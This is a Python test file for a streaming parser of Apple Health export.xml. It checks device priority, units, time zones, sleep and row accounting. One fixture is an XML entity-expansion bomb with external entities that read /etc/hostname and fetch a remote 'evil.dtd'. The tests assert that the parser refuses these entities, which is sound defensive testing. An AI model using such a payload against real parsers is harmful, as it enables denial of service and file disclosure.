"""Apple Health export.xml, streamed: device priority, units, time zones, sleep, counts, safety.

The fixture below is written in the real format (inline DTD, `+0200` offsets, the long
escaped `device` text, MetadataEntry children, one element per line). Every figure asserted
was worked out by hand from it; the comments say how.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import polars as pl
import pytest

import schemas
from pipeline.errors import DataError
from pipeline.ingest import prepare
from pipeline.quarantine import quarantine_rows
from pipeline.sources import _apple_xml
from pipeline.sources import apple_health as ah
from pipeline.sources._parse import ReadOptions
from pipeline.store import Store
from tests.conftest import real

BERLIN = ReadOptions(time_zone="Europe/Berlin")
NEW_YORK = ReadOptions(time_zone="America/New_York")
Q = "HKQuantityTypeIdentifier"
SLEEP = "HKCategoryValueSleepAnalysis"
WATCH = "Anna’s Apple Watch"
PHONE = "Anna’s iPhone"
WATCH_DEVICE = (
    "&lt;&lt;HKDevice: 0x3029a1e50&gt;, name:Apple Watch, manufacturer:Apple Inc., "
    "model:Watch, hardware:Watch6,2, software:10.0&gt;"
)
PHONE_DEVICE = (
    "&lt;&lt;HKDevice: 0x302d1c3c0&gt;, name:iPhone, manufacturer:Apple Inc., "
    "model:iPhone, hardware:iPhone14,5, software:17.5&gt;"
)
DEVICES = {WATCH: WATCH_DEVICE, PHONE: PHONE_DEVICE}

HEAD = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE HealthData [
<!-- HealthKit Export Version: 14 -->
<!ELEMENT HealthData (ExportDate,Me,(Record|Correlation|Workout|ActivitySummary)*)>
<!ATTLIST HealthData
  locale CDATA #REQUIRED
>
<!ELEMENT Record ((MetadataEntry|HeartRateVariabilityMetadataList)*)>
<!ATTLIST Record
  type          CDATA #REQUIRED
  unit          CDATA #IMPLIED
  value         CDATA #IMPLIED
  sourceName    CDATA #REQUIRED
  startDate     CDATA #REQUIRED
  endDate       CDATA #REQUIRED
>
]>
<HealthData locale="en_US">
 <ExportDate value="2025-06-10 09:00:00 +0200"/>
 <Me HKCharacteristicTypeIdentifierDateOfBirth="1990-01-01" HKCharacteristicTypeIdentifierBiologicalSex="HKBiologicalSexFemale"/>"""  # noqa: E501


def rec(kind: str, source: str, start: str, end: str | None, value: str, unit: str = "") -> str:
    """One <Record> line as Apple writes it ("2025-06-02 08:00" -> "... 08:00:00 +0200")."""
    device = f' device="{DEVICES[source]}"' if source in DEVICES else ""
    unit = f' unit="{unit}"' if unit else ""
    start_s = start if start.count(":") == 2 or " " not in start else f"{start}:00 +0200"
    end_s = start_s if end is None else f"{end}:00 +0200"
    return (
        f' <Record type="{kind}" sourceName="{source}" sourceVersion="10.0"{device}{unit} '
        f'creationDate="{end_s}" startDate="{start_s}" endDate="{end_s}" value="{value}"/>'
    )


def sleep(source: str, start: str, end: str, stage: str) -> str:
    return rec("HKCategoryTypeIdentifierSleepAnalysis", source, start, end, SLEEP + stage)


def hr(start: str, value: str) -> str:
    line = rec(Q + "HeartRate", WATCH, start, None, value, "count/min")
    motion = '  <MetadataEntry key="HKMetadataKeyHeartRateMotionContext" value="1"/>'
    return line.replace("/>", ">") + "\n" + motion + "\n </Record>"


D2, D3 = "2025-06-02", "2025-06-03"
BODY = [  # one moment: weight in lb and fat as a fraction -> one body row
    rec(Q + "BodyMass", "Withings", f"{D2} 07:00", None, "154.32358", "lb"),
    rec(Q + "BodyFatPercentage", "Withings", f"{D2} 07:00", None, "0.25", "%"),
    rec(Q + "WaistCircumference", "Health", f"{D2} 07:05", None, "34", "in"),
]
STEPS = [
    # 2 June: the iPhone and the Watch count the same walk; by default the Watch is used
    # (1,200 + 1,800 + 500 = 3,500 steps, more than the iPhone's 1,000 + 2,000 = 3,000),
    # never the sum (6,500)
    rec(Q + "StepCount", PHONE, f"{D2} 08:00", f"{D2} 08:30", "1000", "count"),
    rec(Q + "StepCount", PHONE, f"{D2} 12:00", f"{D2} 12:30", "2000", "count"),
    rec(Q + "StepCount", WATCH, f"{D2} 08:00", f"{D2} 08:30", "1200", "count"),
    rec(Q + "StepCount", WATCH, f"{D2} 12:00", f"{D2} 12:30", "1800", "count"),
    rec(Q + "StepCount", WATCH, f"{D2} 18:00", f"{D2} 18:30", "500", "count"),
    rec(Q + "StepCount", WATCH, f"{D2} 19:00", f"{D2} 19:30", "abc", "count"),  # quarantined
    # distance: iPhone 2 km (set aside); Watch 1.5 mi + 500 m = 2.414016 + 0.5 km
    rec(Q + "DistanceWalkingRunning", PHONE, f"{D2} 08:00", f"{D2} 08:30", "2", "km"),
    rec(Q + "DistanceWalkingRunning", WATCH, f"{D2} 08:00", f"{D2} 08:30", "1.5", "mi"),
    rec(Q + "DistanceWalkingRunning", WATCH, f"{D2} 12:00", f"{D2} 12:30", "500", "m"),
    # energy: Watch 100 kcal + 418.4 kJ (100 kcal) = 200; the iPhone's 50 kcal set aside
    rec(Q + "ActiveEnergyBurned", WATCH, f"{D2} 08:00", f"{D2} 08:30", "100", "kcal"),
    rec(Q + "ActiveEnergyBurned", WATCH, f"{D2} 12:00", f"{D2} 12:30", "418.4", "kJ"),
    rec(Q + "ActiveEnergyBurned", PHONE, f"{D2} 12:00", f"{D2} 12:30", "50", "kcal"),
    # exercise minutes: 12 + 18 = 30 moderate minutes
    rec(Q + "AppleExerciseTime", WATCH, f"{D2} 08:00", f"{D2} 08:12", "12", "min"),
    rec(Q + "AppleExerciseTime", WATCH, f"{D2} 18:00", f"{D2} 18:18", "18", "min"),
    # 3 June: the Pedometer++ app has the most steps (9,999 > the iPhone's 4,000, its copy
    # counted once), so by default it wins the day: 9,999 steps and its 3 km; with
    # device_priority ["iPhone"] the iPhone wins (4,000) and the distance is still the app's
    # 3 km (each measure from the first device in the day's order that has it)
    rec(Q + "StepCount", PHONE, f"{D3} 08:00", f"{D3} 09:00", "4000", "count"),
    rec(Q + "StepCount", PHONE, f"{D3} 08:00", f"{D3} 09:00", "4000", "count"),  # duplicate
    rec(Q + "StepCount", "Pedometer++", f"{D3} 08:00", f"{D3} 09:00", "9999", "count"),
    rec(Q + "DistanceWalkingRunning", "Pedometer++", f"{D3} 08:00", f"{D3} 09:00", "3", "km"),
    # 01:00 on 4 June in Berlin is 19:00 on 3 June in New York
    rec(Q + "StepCount", PHONE, "2025-06-04 01:00", "2025-06-04 01:10", "300", "count"),
]
HEART = [
    hr(f"{D2} 08:00:10 +0200", "70"),  # 08:00: (70 + 80) / 2 = 75 from 2 samples
    hr(f"{D2} 08:00:40 +0200", "80"),
    hr(f"{D2} 08:01:05 +0200", "90"),
    hr(f"{D2} 08:02:00 +0200", "300"),  # a glitch: quarantined, not averaged
    hr("yesterday", "60").replace('endDate="yesterday"', 'endDate="2025-06-02 08:03:00 +0200"'),
]
NIGHT = [
    # the Watch's stages 23:00-06:30: asleep 120 + 60 + 50 + 210 = 440 min, awake 10,
    # in bed (the union of all its samples) 23:00-06:30 = 450 min
    sleep(WATCH, "2025-06-01 23:00", f"{D2} 01:00", "AsleepCore"),
    sleep(WATCH, f"{D2} 01:00", f"{D2} 01:10", "Awake"),
    sleep(WATCH, f"{D2} 01:10", f"{D2} 02:10", "AsleepDeep"),
    sleep(WATCH, f"{D2} 02:10", f"{D2} 03:00", "AsleepREM"),
    sleep(WATCH, f"{D2} 03:00", f"{D2} 06:30", "AsleepCore"),
    # the same night from two more sources: not summed; the Watch has the most minutes asleep
    sleep(PHONE, "2025-06-01 22:45", f"{D2} 06:45", "InBed"),
    sleep("AutoSleep", "2025-06-01 23:10", f"{D2} 06:00", "AsleepUnspecified"),
    # a nap, more than 90 minutes after the night: a sleep of its own (30 min)
    sleep(WATCH, f"{D2} 14:00", f"{D2} 14:30", "AsleepCore"),
]
GLUCOSE = [
    # 5.5 mmol/L x 180.15588/10 = 99.0857 -> 99.1 mg/dL; Dexcom is a sensor
    rec(
        Q + "BloodGlucose",
        "Dexcom G7",
        f"{D2} 09:00",
        None,
        "5.5",
        "mmol&lt;180.1558800000541&gt;/L",
    ),  # noqa: E501
    rec(Q + "BloodGlucose", "Health", f"{D2} 12:00", None, "110", "mg/dL"),
]
FOOD = [
    # one MyFitnessPal entry at 12:30: 600 kcal, 70 g carbohydrate, 8 g fibre, ...
    rec(Q + "DietaryEnergyConsumed", "MyFitnessPal", f"{D2} 12:30", None, "600", "kcal"),
    rec(Q + "DietaryCarbohydrates", "MyFitnessPal", f"{D2} 12:30", None, "70", "g"),
    rec(Q + "DietaryFiber", "MyFitnessPal", f"{D2} 12:30", None, "8", "g"),
    rec(Q + "DietarySugar", "MyFitnessPal", f"{D2} 12:30", None, "12", "g"),
    rec(Q + "DietaryProtein", "MyFitnessPal", f"{D2} 12:30", None, "30", "g"),
    rec(Q + "DietaryFatTotal", "MyFitnessPal", f"{D2} 12:30", None, "20", "g"),
    # and one at 19:00 in kJ: 2510.4 kJ = 600 kcal
    rec(Q + "DietaryEnergyConsumed", "MyFitnessPal", f"{D2} 19:00", None, "2510.4", "kJ"),
    rec(Q + "DietaryCarbohydrates", "MyFitnessPal", f"{D2} 19:00", None, "50", "g"),
]
CORRELATION = [  # its records are copies of top-level ones: one ignored row, not three
    ' <Correlation type="HKCorrelationTypeIdentifierFood" sourceName="MyFitnessPal" '
    f'startDate="{D2} 12:30:00 +0200" endDate="{D2} 12:30:00 +0200">',
    '  <MetadataEntry key="meal" value="Lunch"/>',
    " " + FOOD[0],
    " " + FOOD[1],
    " </Correlation>",
]
WORKOUT = [  # iOS 16+: totals as WorkoutStatistics children, not attributes
    ' <Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="30" '
    f'durationUnit="min" sourceName="{WATCH}" device="{WATCH_DEVICE}" '
    f'startDate="{D2} 18:00:00 +0200" endDate="{D2} 18:30:00 +0200">',
    '  <MetadataEntry key="HKIndoorWorkout" value="0"/>',
    f'  <WorkoutStatistics type="{Q}HeartRate" startDate="{D2} 18:00:00 +0200" '
    f'endDate="{D2} 18:30:00 +0200" average="150" minimum="120" maximum="170" unit="count/min"/>',
    f'  <WorkoutStatistics type="{Q}ActiveEnergyBurned" startDate="{D2} 18:00:00 +0200" '
    f'endDate="{D2} 18:30:00 +0200" sum="300" unit="Cal"/>',
    f'  <WorkoutStatistics type="{Q}DistanceWalkingRunning" startDate="{D2} 18:00:00 +0200" '
    f'endDate="{D2} 18:30:00 +0200" sum="5" unit="km"/>',
    " </Workout>",
]
OTHER = [  # not read: counted as ignored
    rec(Q + "BasalEnergyBurned", WATCH, f"{D2} 08:00", f"{D2} 09:00", "80", "kcal"),
    ' <ActivitySummary dateComponents="2025-06-02" activeEnergyBurned="200" '
    'activeEnergyBurnedGoal="500" activeEnergyBurnedUnit="Cal" appleExerciseTime="30"/>',
]
BODY_LINES = [*BODY, *STEPS, *HEART, *NIGHT, *GLUCOSE, *FOOD, *CORRELATION, *WORKOUT, *OTHER]
EXPORT = "\n".join([HEAD, *BODY_LINES, "</HealthData>"])
# Rows of the file (top-level elements but ExportDate and Me): 3 body + 19 steps/activity
# + 5 heart rate + 8 sleep + 2 glucose + 8 food + 1 correlation + 1 workout + 2 other = 49.
ROWS = 49


def export(tmp_path: Path, text: str = EXPORT, name: str = "export.xml") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")  # no final newline, like the real one
    return path


def read(path: Path, opts: ReadOptions = BERLIN):
    with path.open("rb") as f:
        return ah.read_stream(f, path, opts)


def line_of(text: str, needle: str) -> int:
    return next(i for i, line in enumerate(text.split("\n"), 1) if needle in line)


def accounted(got) -> int:
    behind = sum(int(f["_n"].sum() or 0) for f in got.tables.values())
    return behind + got.failures["_line"].n_unique() + got.ignored + got.duplicate


def test_daily_activity_uses_one_device_per_day(tmp_path):
    # no device_priority: each day the device with the most steps (METRICS.md)
    got = read(export(tmp_path))
    days = got.tables["activity_daily"].sort("date")
    assert days.select("date", "steps", "moderate_min").rows() == [
        (dt.date(2025, 6, 2), 3500, 30),  # the Watch: 3,500 > the iPhone's 3,000
        (dt.date(2025, 6, 3), 9999, None),  # Pedometer++: 9,999 > the iPhone's 4,000
        (dt.date(2025, 6, 4), 300, None),  # the iPhone alone
    ]
    km = days["distance_km"].to_list()
    assert km[0] == pytest.approx(1.5 * 1.609344 + 0.5) and km[1] == 3.0 and km[2] is None
    assert days["active_kcal"].to_list() == [pytest.approx(200.0), None, None]
    assert days["wear_min"].null_count() == 3  # derived from heart-rate hours by the report
    # 2 June: 5 steps + 3 distance + 3 energy + 2 exercise records (the "abc" one is
    # quarantined); 3 June: 3 records (the duplicate is counted apart)
    assert days["_n"].to_list() == [13, 3, 1]
    # set aside: the iPhone's 2 steps, 1 distance and 1 energy records on 2 June (4), and
    # the iPhone's steps on 3 June (1; the Pedometer++ steps and distance are used): 5
    assert "(5 activity records of lower-priority devices on the same days set aside)" in (
        got.stored_as
    )


def test_device_rank_follows_the_configured_priority():
    order = ("Watch", "iPhone")
    assert ah.device_rank("Anna’s Apple Watch", None, order) == 0
    assert ah.device_rank("Pixel", "<<HKDevice: 0x1>, name:Pixel, model:Watch>", order) == 0
    assert ah.device_rank("iPhone de Anna", None, ("watch", "IPHONE")) == 1  # any case
    assert ah.device_rank("Pedometer++", None, order) == 2  # no entry: after all listed
    # only the device's name and model count, not its manufacturer or hardware
    device = "<<HKDevice: 0x1>, name:Ring, manufacturer:Apple Inc., hardware:Watch6,2>"
    assert ah.device_rank("Oura", device, ("Apple", "Watch")) == 2
    # no priority: every device ranks alike, so the day's steps decide
    assert ah.device_rank("Anna’s Apple Watch") == ah.device_rank("Pedometer++") == 0


def test_a_configured_priority_wins_the_day(tmp_path):
    path = export(tmp_path)
    phone = ReadOptions(time_zone="Europe/Berlin", device_priority=("iPhone",))
    got = read(path, phone)
    days = got.tables["activity_daily"].sort("date")
    cols = ["date", "steps", "distance_km", "active_kcal", "moderate_min", "_n"]
    assert days.select(cols).rows() == [
        # the iPhone wins 2 June though the Watch has more steps: 1,000 + 2,000 = 3,000
        # steps, its 2 km and 50 kcal; it has no exercise minutes, so the Watch's 12 + 18
        (dt.date(2025, 6, 2), 3000, 2.0, 50.0, 30, 13),
        # the iPhone's 4,000 (Pedometer++ has 9,999 but matches no entry); the app's 3 km
        (dt.date(2025, 6, 3), 4000, 3.0, None, None, 3),
        (dt.date(2025, 6, 4), 300, None, None, None, 1),
    ]
    # set aside: the Watch's 3 steps, 2 distance and 2 energy records on 2 June (7) and the
    # app's steps on 3 June (1): 8
    assert "(8 activity records of lower-priority devices" in got.stored_as
    # listed devices first, in order: ("Watch", "iPhone") gives 2 June to the Watch (3,500)
    # and 3 June to the iPhone (4,000), before the unlisted app's 9,999
    both = ReadOptions(time_zone="Europe/Berlin", device_priority=("Watch", "iPhone"))
    steps = read(path, both).tables["activity_daily"].sort("date")["steps"].to_list()
    assert steps == [3500, 4000, 300]
    # in New York the iPhone's 300 steps of 4 June 01:00 +0200 fall on 3 June: 4,000 + 300
    new_york = ReadOptions(time_zone="America/New_York", device_priority=("iPhone",))
    steps = read(path, new_york).tables["activity_daily"].sort("date")["steps"].to_list()
    assert steps == [3000, 4300]


def test_a_tie_in_steps_goes_to_the_first_name(tmp_path):
    text = "\n".join(
        [
            HEAD,
            rec(Q + "StepCount", "Zepp", f"{D2} 08:00", f"{D2} 09:00", "500", "count"),
            rec(Q + "DistanceWalkingRunning", "Zepp", f"{D2} 08:00", f"{D2} 09:00", "2", "km"),
            rec(Q + "StepCount", "Adidas Running", f"{D2} 08:00", f"{D2} 09:00", "500", "count"),
            rec(Q + "DistanceWalkingRunning", "Adidas Running", f"{D2} 08:00", None, "1", "km"),
            "</HealthData>",
        ]
    )
    day = read(export(tmp_path, text)).tables["activity_daily"].row(0, named=True)
    # 500 steps each: "Adidas Running" comes before "Zepp", so its 1 km, not Zepp's 2
    assert (day["steps"], day["distance_km"], day["_n"]) == (500, 1.0, 4)


def test_the_same_record_lands_on_the_local_day_of_the_time_zone(tmp_path):
    path = export(tmp_path)
    berlin = read(path, BERLIN).tables["activity_daily"].sort("date")
    new_york = read(path, NEW_YORK).tables["activity_daily"].sort("date")
    # 2025-06-04 01:00 +0200 is 01:00 on 4 June in Berlin, 19:00 on 3 June in New York
    # 3 June is Pedometer++'s day in both (9,999 steps > the iPhone's 4,000, or 4,300 in
    # New York), so the moved record shows in the day's records: 3 in Berlin, 3 + 1 in NY
    assert berlin.select("date", "steps", "_n").rows()[1:] == [
        (dt.date(2025, 6, 3), 9999, 3),
        (dt.date(2025, 6, 4), 300, 1),
    ]
    assert new_york.select("date", "steps", "_n").rows()[1:] == [(dt.date(2025, 6, 3), 9999, 4)]
    hr = read(path, NEW_YORK).tables["heart_rate"]
    assert hr["ts_local"].min() == dt.datetime(2025, 6, 2, 2, 0)  # 08:00 +0200 = 02:00 EDT


def test_heart_rate_minutes_and_quarantined_samples(tmp_path):
    got = read(export(tmp_path))
    rows = got.tables["heart_rate"].sort("ts_local").select("ts_local", "bpm", "samples").rows()
    assert rows == [
        (dt.datetime(2025, 6, 2, 8, 0), 75.0, 2),
        (dt.datetime(2025, 6, 2, 8, 1), 90.0, 1),
    ]
    fails = got.failures.select("_line", "column", "check", "value").rows()
    assert fails == [
        (line_of(EXPORT, 'value="abc"'), "value", "parses_as_number", "abc"),
        (
            line_of(EXPORT, 'startDate="2025-06-02 08:02:00'),
            "value",
            "less_than_or_equal_to(250)",
            "300",
        ),
        (
            line_of(EXPORT, 'startDate="yesterday"'),
            "startDate",
            "parses_as_offset_datetime",
            "yesterday",
        ),
    ]


def test_sleep_one_source_per_night_and_naps_apart(tmp_path):
    got = read(export(tmp_path))
    rows = got.tables["sleep"].select(
        "date", "record", "start_local", "end_local", "asleep_min", "in_bed_min", "_n"
    )
    assert rows.rows() == [
        (
            dt.date(2025, 6, 2),
            "2025-06-01T23:00",
            dt.datetime(2025, 6, 1, 23, 0),
            dt.datetime(2025, 6, 2, 6, 30),
            440,
            450,
            7,  # the Watch's 5 samples + the iPhone's and AutoSleep's, set aside
        ),
        (
            dt.date(2025, 6, 2),
            "2025-06-02T14:00",
            dt.datetime(2025, 6, 2, 14, 0),
            dt.datetime(2025, 6, 2, 14, 30),
            30,
            30,
            1,
        ),
    ]


def test_body_glucose_food_and_workouts(tmp_path):
    got = read(export(tmp_path))
    body = got.tables["body"].sort("ts_local")
    assert body.select("ts_local", "fat_pct", "_n").rows() == [
        (dt.datetime(2025, 6, 2, 7, 0), 25.0, 2),  # 0.25 is a fraction: 25%
        (dt.datetime(2025, 6, 2, 7, 5), None, 1),
    ]
    assert body["weight_kg"][0] == pytest.approx(70.0, abs=1e-4)  # 154.32358 lb
    assert body["waist_cm"][1] == pytest.approx(86.36)  # 34 in
    glucose = got.tables["glucose"].sort("ts_local")
    assert glucose.select("mg_dl", "kind", "limit").rows() == [
        (99.1, "sensor", None),
        (110.0, None, None),
    ]
    food = got.tables["food_items"].sort("time")
    cols = ["entry_id", "kcal", "carbs_g", "fiber_g", "sugars_g", "protein_g", "fat_g", "_n"]
    assert food.select(cols).rows() == [
        ("12:30:00 MyFitnessPal", 600.0, 70.0, 8.0, 12.0, 30.0, 20.0, 6),
        ("19:00:00 MyFitnessPal", pytest.approx(600.0), 50.0, None, None, None, None, 2),
    ]
    assert food["granularity"].unique().to_list() == ["item"]
    assert food["meal"].null_count() == food["food_name"].null_count() == 2
    work = got.tables["workouts"].row(0, named=True)
    assert (work["start_local"], work["type"]) == (dt.datetime(2025, 6, 2, 18, 0), "Running")
    figures = [work[c] for c in ("duration_min", "distance_km", "kcal", "avg_hr")]
    assert figures == [30.0, 5.0, 300.0, 150.0]


def test_counts_add_up(tmp_path):
    got = read(export(tmp_path))
    assert got.rows_read == ROWS
    assert got.duplicate == 1  # the repeated iPhone 4,000 steps
    # the BasalEnergyBurned record, the ActivitySummary and the food Correlation
    assert got.ignored == 3
    assert got.failures["_line"].n_unique() == 3
    assert got.nulled.height == 0  # both food entries have fibre and sugars within carbs
    assert accounted(got) == ROWS
    assert got.stored_as.startswith(
        "3 daily rows, 2 heart-rate minutes, 2 sleeps, 2 body measurements, 2 food entries, "
        "2 glucose readings, 1 workout"
    )
    for table, frame in got.tables.items():
        assert frame.columns == [
            *[c for c in schemas.columns(table) if c != "file_id"],
            "_line",
            "_n",
        ]
        assert frame["_line"].is_unique().all(), table


def test_sniff_by_content_not_name(tmp_path):
    head = EXPORT.encode()[:65536]
    assert ah.sniff(head, "export.xml") and ah.sniff(head, "my health.xml")
    assert not ah.sniff(b"<?xml version='1.0'?><ClinicalDocument>", "export_cda.xml")
    assert not ah.detect(["Id", "Time", "Value"])


def test_chunks_do_not_change_the_result(tmp_path, monkeypatch):
    path = export(tmp_path)
    whole = read(path)
    monkeypatch.setattr(_apple_xml, "CHUNK_RECORDS", 3)
    sliced = read(path)
    for table, frame in whole.tables.items():
        assert sliced.tables[table].equals(frame), table
    assert (sliced.duplicate, sliced.rows_read) == (whole.duplicate, whole.rows_read)


def test_a_cut_file_keeps_what_was_read_and_quarantines_the_rest(tmp_path):
    lines = EXPORT.split("\n")
    cut_at = line_of(EXPORT, "AsleepDeep")  # the file ends in the middle of this record
    text = "\n".join(lines[: cut_at - 1]) + "\n" + lines[cut_at - 1][:60]
    got = read(export(tmp_path, text))
    assert got.tables["heart_rate"].height == 2  # read before the damage
    assert got.failures.filter(pl.col("check") == "xml_damaged")["_line"].to_list() == [cut_at]
    assert any(
        f"damaged at line {cut_at} (" in w and "may have been cut off while copying" in w
        for w in got.warnings
    )
    assert accounted(got) == got.rows_read


def test_broken_tags_in_the_middle(tmp_path):
    # a hand-edited file: one record's closing tag lost, so the next records are not read
    broken = EXPORT.replace(
        hr(f"{D2} 08:01:05 +0200", "90"), hr(f"{D2} 08:01:05 +0200", "90")[:-10]
    )
    got = read(export(tmp_path, broken))
    damaged = got.failures.filter(pl.col("check") == "xml_damaged")
    assert damaged.height > 10 and got.warnings
    assert accounted(got) == got.rows_read
    assert got.tables["body"].height == 2  # before the damage


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE HealthData [
<!ENTITY lol "lol">
<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
<!ENTITY secret SYSTEM "file:///etc/hostname">
<!ENTITY remote SYSTEM "http://203.0.113.1/evil.dtd">
]>
<HealthData locale="en_US">
{records}
</HealthData>"""


@pytest.mark.parametrize("entity", ["lol9", "secret", "remote"])
def test_entities_are_never_expanded(tmp_path, entity):
    records = "\n".join(
        [
            rec(Q + "StepCount", WATCH, f"{D2} 08:00", f"{D2} 08:30", "100", "count"),
            rec(Q + "StepCount", f"&{entity};", f"{D2} 09:00", f"{D2} 09:30", "200", "count"),
            rec(Q + "StepCount", WATCH, f"{D2} 10:00", f"{D2} 10:30", "300", "count"),
        ]
    )
    got = read(export(tmp_path, BILLION_LAUGHS.replace("{records}", records)))
    # the record before the entity is read; the one with it and the rest are quarantined
    assert got.tables["activity_daily"]["steps"].to_list() == [100]
    assert got.failures["check"].to_list() == ["xml_damaged", "xml_damaged"]
    assert accounted(got) == got.rows_read == 3
    assert f"Entity '{entity}' not defined" in got.warnings[0]
    assert "an XML entity the Health app never writes" in got.warnings[0]
    assert got.warnings[0].endswith("do not trust this file")
    everything = [str(got.warnings), str(got.failures.rows()), str(got.stored_as)]
    for frame in got.tables.values():
        everything.append(str(frame.rows()))
    text = " ".join(everything)
    assert "lollol" not in text and Path("/etc/hostname").read_text().strip() not in text


def test_control_characters_are_read_as_spaces(tmp_path):
    text = EXPORT.replace("Pedometer++", "Pedo\x0bmeter++")
    got = read(export(tmp_path, text))
    assert any("control character" in w for w in got.warnings)
    assert got.tables["activity_daily"]["distance_km"][1] == 3.0


def test_the_real_export():
    # Counted apart from the parser with grep on the file:
    #   grep -c '^ <Record ' -> 26 top-level records (2 more sit inside the Correlation)
    #   grep -c '<Workout ' -> 2; '<ActivitySummary ' -> 3; '<Correlation ' -> 1
    #   so 26 + 2 + 3 + 1 = 32 rows.
    #   grep -o 'type="HK...' | sort | uniq -c, top level only: StepCount 2,
    #   DistanceWalkingRunning 1, ActiveEnergyBurned 1 (the other is a WorkoutStatistics)
    #   -> 1 day (2025-05-28) of 4 records; HeartRate 3 (2 more are WorkoutStatistics) at
    #   3 different minutes; SleepAnalysis 2 (one night, AutoSleep); BodyMass 2 and
    #   BodyFatPercentage 1 at 3 moments; BloodGlucose 2; Workout 2: 16 records stored.
    #   The other 12 records + 3 ActivitySummary + 1 Correlation = 16 ignored.
    path = real("apple_health/grll_apple-health-landing-zone/export.xml")
    got = read(path, ReadOptions(time_zone="Europe/London"))  # +0100 in May: same wall time
    assert got.rows_read == 32 and got.ignored == 16 and got.duplicate == 0
    assert got.failures.height == 0
    heights = {t: f.height for t, f in got.tables.items()}
    assert heights == {
        "activity_daily": 1,
        "heart_rate": 3,
        "sleep": 1,
        "body": 3,
        "food_items": 0,
        "glucose": 2,
        "workouts": 2,
    }
    day = got.tables["activity_daily"].row(0, named=True)
    # 234 + 456 steps, 0.523 km, 45.3 kcal from the Watch on 28 May
    assert (day["date"], day["steps"], day["distance_km"], day["active_kcal"]) == (
        dt.date(2025, 5, 28),
        690,
        0.523,
        45.3,
    )
    night = got.tables["sleep"].row(0, named=True)
    # in bed 01:05:06-08:30 (444.9 min), asleep 01:15-08:30 (435 min)
    assert (night["date"], night["asleep_min"], night["in_bed_min"]) == (
        dt.date(2025, 4, 28),
        435,
        445,
    )
    # 4.59 and 5.23 mmol/L x 18.0155880 = 82.69 and 94.22 mg/dL
    assert got.tables["glucose"]["mg_dl"].to_list() == [82.7, 94.2]
    # the hand-edited excerpt writes body fat as 18.5 (%), not HealthKit's fraction 0.185
    assert got.tables["body"]["fat_pct"].drop_nulls().to_list() == [18.5]
    walk = got.tables["workouts"].row(0, named=True)
    assert (walk["type"], walk["distance_km"], walk["kcal"], walk["avg_hr"]) == (
        "Walking",
        5.234,
        342.5,
        92.5,
    )
    assert accounted(got) == 32


def test_ingest_prepares_every_table(tmp_path):
    prep = prepare(export(tmp_path), None, BERLIN)
    r = prep.report
    assert (r.format, r.rows_read, r.rows_duplicate, r.rows_ignored) == ("apple_health", ROWS, 1, 3)
    assert r.rows_accepted + r.rows_quarantined + r.rows_duplicate + r.rows_ignored == ROWS
    assert r.rows_quarantined == 3
    assert prep.accepted["steps"].to_list() == [3500, 9999, 300]  # the most steps each day
    assert set(prep.extra) == {"heart_rate", "sleep", "body", "food_items", "glucose", "workouts"}


def test_cli_ingests_the_export_zip(tmp_path, store_dir, run):
    archive = tmp_path / "export.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("apple_health_export/export.xml", EXPORT)
        z.writestr("apple_health_export/export_cda.xml", "<?xml version='1.0'?><ClinicalDocument/>")
    store_dir.mkdir()
    (store_dir / "config.toml").write_text('time_zone = "Europe/Berlin"\n')
    result = run("ingest", str(archive))
    assert result.exit_code == 0, result.output
    assert "apple_health" in result.output and "3 daily rows" in result.output


def test_cli_reads_device_priority_from_the_config(tmp_path, store_dir, run):
    store_dir.mkdir()
    (store_dir / "config.toml").write_text(
        'time_zone = "Europe/Berlin"\ndevice_priority = ["iPhone"]\n'
    )
    result = run("ingest", str(export(tmp_path)))
    assert result.exit_code == 0, result.output
    assert "(8 activity records of lower-priority devices" in result.output
    days = Store(store_dir).read("activity_daily").collect().sort("date")
    # the iPhone's 3,000 on 2 June (not the Watch's 3,500), 4,000 on 3 June (not the
    # unlisted app's 9,999), 300 on 4 June
    assert days["steps"].to_list() == [3000, 4000, 300]


def test_food_with_more_fibre_than_carbohydrate_is_recorded_in_quarantine(tmp_path):
    lines = [
        # an entry of 400 kcal listing 30 g fibre in 10 g carbohydrate: beyond rounding
        # (10 g + 1 g or 10%), so its carbohydrate, fibre and sugars are stored as unknown
        rec(Q + "DietaryEnergyConsumed", "Lose It!", f"{D2} 13:00", None, "400", "kcal"),
        rec(Q + "DietaryCarbohydrates", "Lose It!", f"{D2} 13:00", None, "10", "g"),
        rec(Q + "DietaryFiber", "Lose It!", f"{D2} 13:00", None, "30", "g"),
        rec(Q + "DietarySugar", "Lose It!", f"{D2} 13:00", None, "5", "g"),
    ]
    text = "\n".join([HEAD, *lines, "</HealthData>"])
    prep = prepare(export(tmp_path, text), None, BERLIN)
    food = prep.extra["food_items"]
    assert food.select("kcal", "carbs_g", "fiber_g", "sugars_g").rows() == [
        (400.0, None, None, None)
    ]
    first = line_of(text, "DietaryEnergyConsumed")  # the entry's first record
    assert prep.nulled.rows() == [
        (
            first,
            "carbohydrate, fibre, sugars",
            "carbs_set_unknown",
            "stored with carbohydrate, fibre and sugars unknown: fibre 30.0 g, sugars 5.0 g, "
            "carbohydrate 10.0 g (more than rounding allows); energy, protein and fat count",
        )
